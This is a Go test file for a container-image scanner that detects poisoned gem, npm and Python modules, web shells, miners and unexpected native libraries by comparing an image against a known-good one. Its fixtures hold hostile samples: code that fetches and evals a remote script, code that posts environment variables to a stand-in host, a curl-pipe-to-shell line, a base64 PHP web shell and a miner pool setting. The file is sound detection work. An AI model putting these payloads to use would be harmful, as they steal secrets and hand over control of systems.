package binary

import (
	"slices"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/backtrail/backtrail/inspect"
	"github.com/backtrail/backtrail/inspect/verdict"
)

// Modules that no bit makes a program, that start nothing by themselves, and that a package lists or has in its
// directory: what a release that was poisoned has in them is found, and what libraries do every day is not.
func TestModulesThatShowWhatHarmlessOnesDoNot(t *testing.T) {
	const evals = "require 'open-uri'\nThread.new { eval(URI.open('https://a.example/r').read) }\n"
	const mines = "POOL = 'stratum+tcp://pool.example:3333'\nrun('--donate-level 1')\n"
	const sends = "import json, os, urllib.request\n" +
		"urllib.request.urlopen('https://a.example/', data=json.dumps(dict(os.environ)).encode())\n"
	gem := func(version, text string) []member {
		return []member{
			file("b/specifications/rack-"+version+".gemspec", "spec"), file("b/gems/rack-"+version+"/lib/rack.rb", text),
		}
	}
	npm := func(version, text string) []member {
		return []member{
			file("app/node_modules/ms/package.json", `{"name": "ms", "version": "`+version+`"}`),
			file("app/node_modules/ms/index.js", text),
		}
	}
	python := func(interpreter, text string) []member {
		return []member{
			exe("usr/local/bin/python3.12", program(interpreter)), file("usr/local/lib/python3.12/ssl.py", text),
		}
	}
	const calls = "const { execSync } = require('child_process');\nfetch('https://a.example/');\n"
	for name, tt := range map[string]struct {
		now, good []member
		want      string // path of the only row that is high, "" for none
	}{
		"a gem that runs what it fetches":    {gem("3.1", evals), gem("3.1", "module Rack\nend\n"), "/b/gems/rack-3.1/lib/rack.rb"},
		"the next version of a gem does":     {gem("3.2", evals), gem("3.1", "module Rack\nend\n"), "/b/gems/rack-3.2/lib/rack.rb"},
		"as the known-good had it":           {gem("3.1", evals+"# more\n"), gem("3.1", evals), ""},
		"the next version of a gem":          {gem("3.2", "module Rack\n  V = 2\nend\n"), gem("3.1", "module Rack\nend\n"), ""},
		"a miner in a module":                {[]member{file("srv/a/b.py", mines)}, nil, "/srv/a/b.py"},
		"one word of a miner":                {[]member{file("srv/a/b.py", "BLOCKED = ['xmrig']\n")}, nil, ""},
		"a miner that was accepted":          {[]member{file("srv/a/b.py", mines)}, []member{file("srv/a/b.py", mines)}, ""},
		"a web shell":                        {[]member{file("var/www/html/c.php", "<?php @eval(base64_decode($_POST['c']));\n")}, []member{file("var/www/html/i.php", "<?php\n")}, "/var/www/html/c.php"},
		"the standard library of one python": {python("a", sends), python("a", "import socket\n"), "/usr/local/lib/python3.12/ssl.py"},
		"another python":                     {python("b", "import socket, ssl\n"), python("a", "import socket\n"), ""},
		"npm, the same version, starts":      {npm("1.0.0", "require('child_process').execSync('curl https://a.example/x | sh')\n"), npm("1.0.0", "x\n"), "/app/node_modules/ms/index.js"},
		"npm, another version, calls":        {npm("1.0.1", calls), npm("1.0.0", "x\n"), ""},
	} {
		t.Run(name, func(t *testing.T) {
			base := append(dpkgOf(map[string][]member{"base": {file("usr/share/base", "b")}}, "base"), file("usr/share/base", "b"))
			target := func(members []member) string {
				return imageOf(t, v1.Config{}, step("base", base...), step("RUN x", members...))
			}
			var good *inspect.KnownGood
			if tt.good != nil {
				at := target(tt.good)
				good = &inspect.KnownGood{Reference: at, Location: at, Confirmed: true}
			}
			c := newBench(t).examine(t, target(tt.now), good)
			var high []string
			for _, b := range c.Images[0].Binaries {
				if b.Severity == inspect.High && b.Path != "/usr/local/bin/python3.12" {
					high = append(high, b.Path)
				}
			}
			if tt.want == "" && len(high) > 0 || tt.want != "" && !slices.Equal(high, []string{tt.want}) {
				t.Errorf("high rows %q, want %q", high, tt.want)
			}
			if tt.want == "" {
				return
			}
			if !slices.ContainsFunc(c.Findings, func(f inspect.Finding) bool {
				return f.Code == inspect.CodeModuleSigns && strings.Contains(f.Title, tt.want) && f.Detail != ""
			}) || verdict.Of(&c).Status != inspect.CaseFailed {
				t.Errorf("findings %+v", c.Findings)
			}
		})
	}
}

// Native libraries that come with another version of a package, or with a package that is new as a whole, are ordinary;
// one in a package that was there without it is not.
func TestNativeLibrariesOfOtherVersions(t *testing.T) {
	gem := func(name, version string, native bool) []member {
		list := []member{file("b/specifications/"+name+"-"+version+".gemspec", "spec"), file("b/gems/"+name+"-"+version+"/lib/x.rb", "x")}
		if native {
			list = append(list, exe("b/extensions/x86_64-linux/3.3.0/"+name+"-"+version+"/x.so", program(name+version)))
		}
		return list
	}
	for name, tt := range map[string]struct {
		now, good []member
		worst     inspect.Severity
	}{
		"the next version":      {gem("nokogiri", "1.18.4", true), gem("nokogiri", "1.18.3", true), inspect.Low},
		"a new gem":             {append(gem("puma", "6.0", true), gem("rack", "3.1", false)...), gem("rack", "3.1", false), inspect.Low},
		"of a gem that was not": {gem("rack", "3.1", true), gem("rack", "3.1", false), inspect.Medium},
	} {
		base := append(dpkgOf(map[string][]member{"base": {file("usr/share/base", "b")}}, "base"), file("usr/share/base", "b"))
		at := imageOf(t, v1.Config{}, step("base", base...), step("RUN x", tt.good...))
		c := newBench(t).examine(t, imageOf(t, v1.Config{}, step("base", base...), step("RUN x", tt.now...)),
			&inspect.KnownGood{Reference: at, Location: at, Confirmed: true})
		worst := inspect.Info
		for _, b := range c.Images[0].Binaries {
			if b.Severity.Rank() < worst.Rank() {
				worst = b.Severity
			}
		}
		if worst.Rank() < tt.worst.Rank() || tt.worst == inspect.Medium && worst != tt.worst {
			t.Errorf("%s: %s: %+v", name, worst, c.Images[0].Binaries)
		}
	}
}

// An image decides how many modules it has, and how long they are: those that are not read to their end are counted.
func TestModulesPastTheBoundsAreCounted(t *testing.T) {
	large := strings.Repeat("x = 1\n", MaxModule/6+1)
	b := newBench(t)
	c := b.examine(t, imageOf(t, v1.Config{}, step("app", file("srv/a.py", "a = 1\n"), file("srv/b.py", "b = 1\n"),
		file("srv/large.py", large))), nil)
	if !slices.ContainsFunc(c.Notices, func(n inspect.Notice) bool {
		return strings.Contains(n.Text, "not looked through to the end") && strings.Contains(n.Text, "1 module of")
	}) {
		t.Errorf("notices %+v", c.Notices)
	}
	tree, err := b.cache.Tree(t.Context(), c.Images[0].Layers)
	if err != nil {
		t.Fatal(err)
	}
	for budget, want := range map[int64]int{0: 3, 6: 2, 11: 2, 12: 1, 12 + MaxModule: 1} {
		h := &scanner{tree: tree}
		if err := mining(t.Context(), h, budget); err != nil || h.unread != want {
			t.Errorf("a budget of %d bytes: %d are not read to their end, want %d; %v", budget, h.unread, want, err)
		}
	}
}
